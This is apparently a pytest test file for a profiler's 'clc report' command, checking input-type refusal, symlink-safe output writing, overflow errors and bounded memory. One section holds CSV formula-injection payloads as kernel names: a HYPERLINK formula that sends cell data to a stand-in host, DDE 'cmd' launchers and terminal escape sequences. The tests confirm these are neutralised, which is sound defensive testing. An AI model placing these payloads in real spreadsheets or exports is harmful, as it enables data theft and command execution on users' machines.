# SPDX-License-Identifier: Apache-2.0
"""`clc report`: inputs that are not captures, the -o file, captures of millions of launches."""

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys

import pytest

from alarms import deadline
from capture_writer import CaptureWriter, big_capture
from clc.cli.main import main

VECADD = "_Z6vecAddPKfS0_Pfi"


@pytest.fixture
def alarm():
    """Fail instead of hanging: an open or read that blocks is the bug these tests look for."""
    with deadline(10, TimeoutError("clc report blocked")):
        yield


@pytest.fixture
def cap(tmp_path):
    w = CaptureWriter()
    w.process("./app")
    w.kernel(0, VECADD)
    w.launch(0, 0)
    w.kernel_stats(0, launches=1, recorded=1)
    w.end()
    return w.write(tmp_path / "cap.clc")


def report(*argv):
    return main(["report", *map(str, argv)])


# ---- inputs -----------------------------------------------------------------------------------

def test_fifo_is_refused_without_blocking(tmp_path, alarm, capsys):
    # GIVEN a FIFO that no one writes to (opening it for reading would wait for a writer)
    path = tmp_path / "pipe.clc"
    os.mkfifo(path)
    # THEN clc report refuses it at once, as a usage error
    assert report(path) == 2
    assert capsys.readouterr().err == (f"clc: {path}: is a FIFO (named pipe), not a capture "
                                       "file (captures are regular files)\n")


@pytest.mark.parametrize("what", ["/dev/zero", "directory", "socket"])
def test_other_non_regular_inputs_are_refused(tmp_path, alarm, capsys, what):
    sock = None
    if what == "directory":
        path, said = tmp_path, "is a directory"
    elif what == "socket":
        path, said = tmp_path / "s.clc", "is a socket"
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(path))
    else:
        path, said = what, "is a character device"
    try:
        assert report(path) == 2
    finally:
        if sock is not None:
            sock.close()
    assert capsys.readouterr().err.startswith(f"clc: {path}: {said}, not a capture file")


def test_missing_input(tmp_path, capsys):
    assert report(tmp_path / "nope.clc") == 2
    assert "nope.clc: cannot read: No such file or directory" in capsys.readouterr().err


# ---- the -o file --------------------------------------------------------------------------------

def test_output_is_created_0644(cap, tmp_path, capsys):
    out = tmp_path / "r.json"
    old = os.umask(0o022)
    try:
        assert report(cap, "--format", "json", "-o", out) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o644
    assert json.loads(out.read_text())["kernels"][0]["mangled"] == VECADD
    assert capsys.readouterr().out == ""


def test_existing_output_needs_force(cap, tmp_path, capsys):
    out = tmp_path / "r.txt"
    out.write_text("keep me")
    assert report(cap, "-o", out) == 2
    assert capsys.readouterr().err == f"clc: {out} exists (use --force to overwrite it)\n"
    assert out.read_text() == "keep me"
    # WITH --force it is replaced, not appended to
    assert report(cap, "-o", out, "--force") == 0
    assert out.read_text().startswith(f"{cap}: pid ")


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_dangling_link_is_not_written_through(cap, tmp_path, capsys, force):
    # GIVEN an output path that is a link to a file that does not exist yet
    target = tmp_path / "elsewhere" / "target.txt"
    target.parent.mkdir()
    link = tmp_path / "r.txt"
    link.symlink_to(target)
    # THEN clc report refuses it, with or without --force, and creates nothing
    assert report(cap, "-o", link, *force) == 2
    assert "is a symbolic link: clc does not write through links" in capsys.readouterr().err
    assert not target.exists() and link.is_symlink()


def test_link_to_an_existing_file_is_not_overwritten(cap, tmp_path, capsys):
    target = tmp_path / "precious.txt"
    target.write_text("precious")
    link = tmp_path / "r.txt"
    link.symlink_to(target)
    assert report(cap, "-o", link, "--force") == 2
    assert "is a symbolic link" in capsys.readouterr().err
    assert target.read_text() == "precious"


def test_fifo_output_is_refused_without_blocking(cap, tmp_path, alarm, capsys):
    out = tmp_path / "pipe"
    os.mkfifo(out)
    assert report(cap, "-o", out, "--force") == 2
    assert capsys.readouterr().err == (f"clc: {out} is a FIFO (named pipe), not a regular file: "
                                       "clc writes only regular files (name another file with "
                                       "-o)\n")


def test_output_in_a_missing_folder(cap, tmp_path, capsys):
    out = tmp_path / "no" / "such" / "r.txt"
    assert report(cap, "-o", out) == 2
    assert capsys.readouterr().err == (f"clc: cannot write {out}: the folder {out.parent} does "
                                       "not exist\n")


def test_output_that_is_an_input_is_refused(cap, capsys):
    size = cap.stat().st_size
    assert report(cap, "-o", cap, "--force") == 2
    assert "is one of the captures to read" in capsys.readouterr().err
    assert cap.stat().st_size == size


def test_no_output_is_left_when_a_capture_is_refused(tmp_path, capsys):
    bad = tmp_path / "bad.clc"
    bad.write_bytes(b"not a capture at all")
    out = tmp_path / "r.txt"
    assert report(bad, "-o", out) == 2
    assert "not a clc capture file" in capsys.readouterr().err
    assert not out.exists()


def test_unmatched_gpu_times_are_said_on_stderr(tmp_path, capsys):
    # GIVEN a TIMING record whose LAUNCH record was lost
    w = CaptureWriter()
    w.kernel(0, VECADD)
    w.timing(5, 0, 100)
    w.end()
    path = w.write(tmp_path / "t.clc")
    assert report(path, "--format", "chrome") == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["traceEvents"]
    assert err.startswith("clc: 1 GPU time matched no launch record")


# ---- what a capture's writer chose ----------------------------------------------------------

# Kernel names as a program may write them into its capture: formulas a spreadsheet would run
# (OWASP's list of starters), and escape sequences a terminal would act on.
HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                 "k\x1b]0;owned\x07\x1b[2J"]


def hostile_capture(path):
    w = CaptureWriter()
    w.process("./app")
    for i, name in enumerate(HOSTILE_NAMES):
        w.kernel(i, name)
        w.launch(i, i, timed=True)
        w.timing(i, i, 1000 + i)
        w.kernel_stats(i, launches=1, recorded=1, timed=1, gpu_ns=1000 + i)
    w.end()
    return w.write(path)


def csv_name_cells(text):
    """The kernel and mangled cells of a CSV report, as a spreadsheet reads them."""
    table = list(csv.DictReader(io.StringIO(text)))
    return [r[column] for r in table for column in ("kernel", "mangled")]


@pytest.mark.parametrize("baseline", [False, True])
def test_csv_cells_never_start_a_formula_nor_carry_control_bytes(tmp_path, capsys, baseline):
    # GIVEN a capture whose kernels are named as formulas and terminal escape sequences
    path = hostile_capture(tmp_path / "hostile.clc")
    # WHEN it is reported as CSV (alone, or beside itself as the baseline)
    extra = ["--baseline", path] if baseline else []
    assert report(path, "--format", "csv", *extra) == 0
    cells = csv_name_cells(capsys.readouterr().out)
    # THEN every name is there, as text a spreadsheet shows and does not run: a leading quote
    # before a formula's first character, control bytes as \xNN
    assert len(cells) == 2 * len(HOSTILE_NAMES)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert not any(ord(c) < 0x20 or c == "\x7f" for c in cell), cell
    assert set(cells) == {'\'=HYPERLINK("http://x.example/?"&A1,"open")',
                          "'+1+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0",
                          "'@SUM(1+1)*cmd|' /C calc'!A0", "'\\x09=1+1", "'\\x0d=1+1",
                          "k\\x1b]0;owned\\x07\\x1b[2J"}


def test_names_that_start_nothing_are_left_as_they_are(cap, capsys):
    # GIVEN a capture of a real program's kernel THEN its CSV cells are its names
    assert report(cap, "--format", "csv") == 0
    assert csv_name_cells(capsys.readouterr().out) == [
        "vecAdd(float const*, float const*, float*, int)", VECADD]


REPORTS = [["--format", f] for f in ("summary", "csv", "json", "chrome")]


@pytest.mark.parametrize("gpu_ns", [2**63, 2**64 - 1])
@pytest.mark.parametrize("how", [*REPORTS, ["--baseline", "{good}"],
                                 ["--baseline", "{good}", "--format", "csv"],
                                 ["--baseline", "{good}", "--format", "json"], ["as-baseline"]])
def test_a_gpu_time_past_int64_is_a_clear_error_in_every_report(tmp_path, capsys, cap, how,
                                                                   gpu_ns):
    # GIVEN a capture whose TIMING record says a GPU time of 2**63 ns or more, which no GPU
    # measured
    w = CaptureWriter()
    w.process("./app")
    w.kernel(0, VECADD)
    w.launch(0, 0, timed=True)
    at = len(w.data())
    w.timing(0, 0, gpu_ns)
    w.end()
    path = w.write(tmp_path / "huge.clc")
    out = tmp_path / "out"
    # WHEN any report is made of it, or it is the baseline
    argv = ([cap, "--baseline", path] if how == ["as-baseline"] else
            [path, *(str(cap) if a == "{good}" else a for a in how)])
    code = report(*argv, "-o", out)
    # THEN clc says which file and which record, with no traceback, and writes nothing
    assert code == 2
    assert capsys.readouterr().err == (
        f"clc: {path}: TIMING record at byte {at}: a GPU time of {gpu_ns} ns (2**63 or more) "
        "is not one the shim measured: the capture is damaged\n")
    assert not out.exists()


def test_a_gpu_time_just_below_int64_is_reported(tmp_path, capsys):
    # GIVEN a TIMING record of 2**63 - 1 ns, the most a GPU time may be
    w = CaptureWriter()
    w.kernel(0, VECADD)
    w.launch(0, 0, timed=True)
    w.timing(0, 0, 2**63 - 1)
    w.end()
    path = w.write(tmp_path / "big.clc")
    # THEN every report renders it
    for how in REPORTS:
        assert report(path, *how) == 0, how
        out = capsys.readouterr().out
        if how == ["--format", "json"]:
            assert f'"gpu_ns": {2**63 - 1}' in out


# ---- scale ------------------------------------------------------------------------------------

MEASURE = """
import resource, sys
from clc.cli.main import main
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
code = main(["report", sys.argv[1], "-o", sys.argv[2]])
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(code, (after - before) * 1024)
"""


def test_report_of_two_million_launches_in_bounded_memory(tmp_path):
    # GIVEN a capture of 2,000,000 launches (176 MB; held whole, over 1 GB of Python objects)
    path = big_capture(tmp_path / "big.clc", 2_000_000)
    out = tmp_path / "summary.txt"
    # WHEN clc report summarizes it, in a process of its own to measure the peak
    proc = subprocess.run([sys.executable, "-c", MEASURE, str(path), str(out)],
                          capture_output=True, text=True, timeout=120)
    code, grown = map(int, proc.stdout.split())
    # THEN the process grew by a few MB at most
    assert code == 0, proc.stderr
    assert grown < 16 * 2**20
    assert "2000000" in out.read_text()
